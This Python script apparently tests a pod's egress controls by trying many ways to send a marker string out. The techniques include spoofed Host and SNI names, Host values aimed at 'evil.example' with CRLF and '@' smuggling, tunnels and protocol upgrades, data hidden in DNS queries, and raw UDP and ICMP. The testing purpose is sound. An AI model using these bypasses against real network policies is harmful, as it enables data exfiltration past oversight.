"""Ways in which an application tries to get data out of its pod, each as a function; standard library only.

Runs as the application in a pod: `python -c SOURCE`, the attempts to make as JSON on the command line, `[[id, way, address, port,
marker], ...]`; prints what became of each. The marker is in whatever is sent, so that whoever watches the wire knows it again. What
counts is what is seen there: here nobody knows whether something has arrived.
"""

import json
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from http.client import HTTPConnection, HTTPException

APPROVED = "api.partner.example"
WILD = "wild.partner.example"      # what stands below it is approved
DATA = "d." * 50 + WILD
WAIT_S = 1.5
PACE_S = 0.015    # of more than a hundred refusals a second a sidecar writes down the number only
_MPTCP, _UDPLITE = 262, 136


def _socket(address: str, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> socket.socket:
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind, protocol)
    sock.settimeout(WAIT_S)
    return sock


def _talk(sock: socket.socket, data: bytes) -> str:
    sock.sendall(data)
    return repr(sock.recv(300))


# -- TCP


def _tcp(address: str, port: int, data: bytes, protocol: int = 0) -> str:
    with _socket(address, protocol=protocol) as sock:
        sock.connect((address, port))
        return _talk(sock, data)


def _request(host: str, marker: str, target: str = "/", method: str = "GET", more: str = "") -> bytes:
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nx-marker: {marker}\r\n{more}\r\n".encode()


def http(host: str, target: str = "/", method: str = "GET", more: str = "") -> Callable[[str, int, str], str]:
    def way(address: str, port: int, marker: str) -> str:
        said = host.replace("{address}", f"[{address}]" if ":" in address else address).replace("{marker}", marker)
        return _tcp(address, port, _request(said, marker, target.replace("{address}", address), method, more))

    return way


def raw(text: bytes) -> Callable[[str, int, str], str]:
    return lambda address, port, marker: _tcp(address, port, text + marker.encode())


def http2(host: str) -> Callable[[str, int, str], str]:
    """HTTP/2 with prior knowledge: every field a literal without indexing (RFC 7541 s6.2.2)."""
    def way(address: str, port: int, marker: str) -> str:
        fields = ((":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", host), ("x-marker", marker))
        block = b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields)
        frames = bytes(3) + b"\4\0" + bytes(4) + len(block).to_bytes(3, "big") + b"\1\5" + (1).to_bytes(4, "big") + block
        return _tcp(address, port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frames)

    return way


def tls(name: str | None) -> Callable[[str, int, str], str]:
    def way(address: str, port: int, marker: str) -> str:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with _socket(address) as sock:
            sock.connect((address, port))
            with context.wrap_socket(sock, server_hostname=name) as sealed:
                return _talk(sealed, _request(name or address, marker, f"/{marker}"))

    return way


def _hello(*names: str) -> bytes:
    """A ClientHello (RFC 8446 s4.1.2) with these server names, in one record."""
    def sized(data: bytes, size: int) -> bytes:
        return len(data).to_bytes(size, "big") + data

    entries = b"".join(b"\0" + sized(name.encode(), 2) for name in names)
    extensions = struct.pack("!H", 0) + sized(sized(entries, 2), 2) + bytes.fromhex("002b0003020304" "000d000400020403"[:14])
    body = b"\3\3" + bytes(32) + b"\0" + sized(b"\x13\x01", 2) + b"\1\0" + sized(extensions, 2)
    return b"\x16\3\1" + sized(b"\1" + sized(body, 3), 2)


def hello(*names: str, pieces: int = 1) -> Callable[[str, int, str], str]:
    """The hello alone, perhaps in pieces."""
    def way(address: str, port: int, marker: str) -> str:
        data = _hello(*(name.replace("{marker}", marker) for name in names))
        with _socket(address) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.connect((address, port))
            step = -(-len(data) // pieces)
            for at in range(0, len(data), step):
                sock.sendall(data[at:at + step])
            return repr(sock.recv(300))

    return way


def silent(address: str, port: int, marker: str) -> str:
    """As a client of a protocol in which the server speaks first."""
    with _socket(address) as sock:
        sock.connect((address, port))
        return repr(sock.recv(300))


def by_device(address: str, port: int, marker: str) -> str:
    with _socket(address) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        sock.connect((address, port))
        return _talk(sock, marker.encode())


def multipath(address: str, port: int, marker: str) -> str:
    return _tcp(address, port, marker.encode(), _MPTCP)


def fast_open(address: str, port: int, marker: str) -> str:
    """Data in the SYN (RFC 7413)."""
    with _socket(address) as sock:
        sock.sendto(marker.encode(), socket.MSG_FASTOPEN, (address, port))
        return repr(sock.recv(300))


def mapped(address: str, port: int, marker: str) -> str:
    """IPv4 through an IPv6 socket."""
    return _tcp(f"::ffff:{address}", port, _request(address, marker))


# -- names


def _resolved(name: str, port: int) -> str:
    return str(socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)[0][4][0])


def named_http(address: str, port: int, marker: str) -> str:
    """`address` is a name: where it leads."""
    try:
        to = _resolved(address, port)
    except OSError:
        to = "203.0.113.10"     # whoever knows that the name is approved needs no answer
    return _tcp(to, port, _request(address, marker, f"/{marker}", "POST", f"Content-Length: {len(marker)}\r\n") + marker.encode())


def named_tls(address: str, port: int, marker: str) -> str:
    try:
        to = _resolved(address, port)
    except OSError:
        to = "203.0.113.10"
    return tls(address)(to, port, marker)


# -- datagrams and DNS


def udp(address: str, port: int, marker: str) -> str:
    with _socket(address, socket.SOCK_DGRAM) as sock:
        sock.sendto(marker.encode(), (address, port))
        return repr(sock.recv(300))


def connected_udp(address: str, port: int, marker: str) -> str:
    with _socket(address, socket.SOCK_DGRAM) as sock:
        sock.connect((address, port))
        sock.send(marker.encode())
        return repr(sock.recv(300))


def udp_by_device(address: str, port: int, marker: str) -> str:
    with _socket(address, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        sock.sendto(_query(f"{marker}.collector.example"), (address, port))
        return repr(sock.recv(300))


def udp_lite(address: str, port: int, marker: str) -> str:
    with _socket(address, socket.SOCK_DGRAM, _UDPLITE) as sock:
        sock.sendto(marker.encode(), (address, port))
        return repr(sock.recv(300))


def broadcast(address: str, port: int, marker: str) -> str:
    with _socket(address, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(marker.encode(), (address, port))
        return repr(sock.recv(300))


def group(address: str, port: int, marker: str) -> str:
    """Multicast, mDNS among it."""
    with _socket(address, socket.SOCK_DGRAM) as sock:
        if ":" in address:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
        sock.sendto(marker.encode(), (address, port))
        return repr(sock.recv(300))


def echo(address: str, port: int, marker: str) -> str:
    """A ping with a load, for which ping_group_range wants no capability."""
    protocol, kind = (socket.IPPROTO_ICMPV6, 128) if ":" in address else (socket.IPPROTO_ICMP, 8)
    with _socket(address, socket.SOCK_DGRAM, protocol) as sock:
        sock.sendto(bytes([kind]) + bytes(7) + marker.encode(), (address, 0))
        return repr(sock.recv(300))


def _query(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def dns(kind: int, domain: str = "collector.example") -> Callable[[str, int, str], str]:
    """The marker in a name, asked of whoever is at the address."""
    def way(address: str, port: int, marker: str) -> str:
        with _socket(address, socket.SOCK_DGRAM) as sock:
            sock.sendto(_query(f"{marker}.{domain}", kind), (address, port))
            return repr(sock.recv(300))

    return way


def dns_tcp(address: str, port: int, marker: str) -> str:
    query = _query(f"{marker}.collector.example")
    return _tcp(address, port, len(query).to_bytes(2, "big") + query)


def stub(address: str, port: int, marker: str) -> str:
    """The C library's own way."""
    return _resolved(f"{marker}.collector.example", 80)


# -- what lasts


def until_cut(address: str, port: int, marker: str) -> str:
    """One connection in use for as long as it lasts, perhaps TLS; the moment of its end, or of the first refusal."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with _socket(address) as sock:
        sock.settimeout(10)
        sock.connect((address, port))
        kept = HTTPConnection(APPROVED)
        kept.sock, kept.auto_open = context.wrap_socket(sock, server_hostname=APPROVED) if port == 443 else sock, 0
        asked = 0
        try:
            while True:
                kept.request("GET", "/", headers={"x-marker": marker})
                response = kept.getresponse()
                response.read()
                if response.status != 200:
                    break
                asked += 1
                time.sleep(0.05)
        except (OSError, HTTPException):
            pass
        return f"{asked} {time.time()}"


WAYS: dict[str, Callable[[str, int, str], str]] = {
    # an approved name, somebody else's address
    "approved Host": http(APPROVED), "approved :authority": http2(APPROVED), "approved SNI": tls(APPROVED),
    "approved Host, unapproved port": http(f"{APPROVED}:8080"),
    "approved SNI in pieces": hello(APPROVED, pieces=7),
    # no name, another name, no protocol
    "address as Host": http("{address}"),
    "unapproved Host": http("unapproved.example"), "unapproved :authority": http2("unapproved.example"),
    "raw bytes": raw(b"\0\1\2\3"), "banner": raw(b"SSH-2.0-x\r\n"), "silent": silent,
    "TLS without a name": tls(None), "unapproved SNI": tls("unapproved.example"),
    # a name that only looks approved
    **{f"Host {host!r}": http(host) for host in (
        f"{APPROVED}@evil.example", f"evil.example@{APPROVED}", f"{APPROVED}%00.evil.example", f"{APPROVED}#evil.example",
        f"not{APPROVED}", f"{APPROVED}.evil.example", f"{APPROVED}:80@evil.example", "0xc6336401", "3325256705", "0306.063.0144.01",
        "xn--pi-0ja.partner.example",
        f"{APPROVED},evil.example", f"{APPROVED} evil.example", f"evil.example\r\nHost: {APPROVED}", "", "*.partner.example",
    )},
    "absolute form": http(APPROVED, "http://evil.example/"), "absolute form, approved": http("evil.example", f"http://{APPROVED}/"),
    # a proxy, a tunnel
    "CONNECT": http(APPROVED, f"{APPROVED}:443", "CONNECT"), "CONNECT away": http("{address}:443", "{address}:443", "CONNECT"),
    "SOCKS": raw(b"\5\1\0"), "WebSocket": http("unapproved.example", more="Connection: Upgrade\r\nUpgrade: websocket\r\n"),
    "h2c upgrade": http("unapproved.example", more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"),
    # hellos
    # data in a name that may be looked up
    "data as Host": http("{marker}." + DATA), "data as SNI": hello("{marker}." + DATA),
    "data as DNS": dns(1, DATA), "odd letters as DNS": dns(1, f"a!b.{WILD}"),
    "two names": hello(APPROVED, "{marker}.example"), "unapproved SNI in pieces": hello("{marker}.example", pieces=9),
    "SNI with a dot": hello("unapproved.example."), "SNI in capitals": hello("UNAPPROVED.EXAMPLE"),
    # sockets
    "bound to a device": by_device, "multipath": multipath, "fast open": fast_open, "mapped": mapped,
    # names that lead to special addresses
    "named": named_http, "named by TLS": named_tls,
    # datagrams and DNS
    "UDP": udp, "connected UDP": connected_udp, "UDP bound to a device": udp_by_device, "UDP-Lite": udp_lite, "broadcast": broadcast,
    "group": group, "ping": echo, "DNS": dns(1), "DNS TXT": dns(16), "DNS NULL": dns(10), "DNS HTTPS": dns(65), "DNS by TCP": dns_tcp,
    "resolver": stub, "until cut": until_cut,
}


def main(attempts: list[tuple[str, str, str, int, str]]) -> None:
    fates: dict[str, str] = {}

    def make(name: str, way: str, address: str, port: int, marker: str) -> None:
        try:
            fates[name] = WAYS[way](address, port, marker)
        except (OSError, ValueError) as exc:
            fates[name] = f"{type(exc).__name__}: {exc}"

    threads = [threading.Thread(target=make, args=attempt) for attempt in attempts]
    for thread in threads:
        thread.start()
        time.sleep(PACE_S)
    for thread in threads:
        thread.join()
    print(json.dumps(fates))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
